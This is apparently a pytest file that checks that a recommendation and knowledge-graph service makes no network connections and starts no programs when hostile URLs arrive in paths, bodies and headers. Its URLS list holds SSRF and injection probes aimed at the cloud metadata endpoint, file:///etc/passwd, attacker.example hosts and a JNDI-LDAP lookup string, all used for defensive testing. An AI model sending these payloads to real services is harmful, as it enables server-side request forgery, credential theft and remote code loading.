"""No request of the service goes anywhere because a caller said so: every socket and every program is watched."""

import sys
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.app.memory_release import MemoryStore

URLS = [
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:1/",
    "file:///etc/passwd",
    "gopher://attacker.example/_x",
    "\\\\attacker.example\\share",
    "//attacker.example/x",
    "jdbc:ldap://attacker.example/a",
    "${jndi:ldap://attacker.example/a}",
]
_WATCHED = ("socket.connect", "socket.getaddrinfo", "socket.sendto", "subprocess.Popen", "os.system", "os.exec")
_HEADERS = ("Referer", "X-Forwarded-For", "Forwarded", "X-Request-ID", "Accept-Language", "traceparent")
_seen: list[tuple[str, Any]] | None = None


def _watch(event: str, arguments: tuple[Any, ...]) -> None:
    if _seen is not None and event in _WATCHED:
        _seen.append((event, arguments[-1]))


# An audit hook stays for the life of the process; it looks only while a test asks it to.
sys.addaudithook(_watch)


@contextmanager
def watched() -> Iterator[list[tuple[str, Any]]]:
    """Give what was opened or started meanwhile."""
    global _seen
    _seen = []
    try:
        yield _seen
    finally:
        _seen = None


def test_the_watch_sees_a_connection() -> None:
    with watched() as seen, pytest.raises(httpx.ConnectError):
        httpx.get("http://127.0.0.1:1/")
    assert ("socket.connect", ("127.0.0.1", 1)) in seen


@pytest.mark.anyio
async def test_a_url_sent_anywhere_makes_no_connection_and_starts_no_program(
    client: httpx.AsyncClient, releases: MemoryStore, release_id: str
) -> None:
    answers = []
    with watched() as seen:
        for url in URLS:
            segment = quote(url, safe="")
            headers = dict.fromkeys(
                ("Referer", "X-Forwarded-For", "Forwarded", "X-Request-ID", "Accept-Language", "traceparent"), url
            )
            for method, path, body in (
                ("GET", f"/users/{segment}/recommendations", None),
                ("GET", f"/items/{segment}", None),
                ("PUT", f"/items/{segment}", {"title": url}),
                ("GET", f"/kg/entities?query={segment}", None),
                ("GET", f"/kg/complete?head={segment}&relation={segment}", None),
                ("POST", "/recommendations", {"user_id": url, "items": [url]}),
                ("POST", "/events", [{"event_id": url, "user_id": url, "item_id": url, "type": "view"}]),
                ("POST", "/kg/facts", [{"head": url, "relation": url, "tail": url}]),
                ("POST", f"/releases/{segment}/activate", None),
                ("POST", "/training-jobs", {"dataset": url}),
                ("POST", "/training-jobs", {"settings": {"model.norm": url}}),
            ):
                answer = await client.request(method, path, json=body, headers=headers)
                answers.append(answer.status_code)
                assert answer.status_code < 500, (method, path, answer.text)
    assert seen == []
    # Some were good: what is asked for by these names was stored and looked up, and is no more than a name.
    assert {200, 404, 422} <= set(answers)
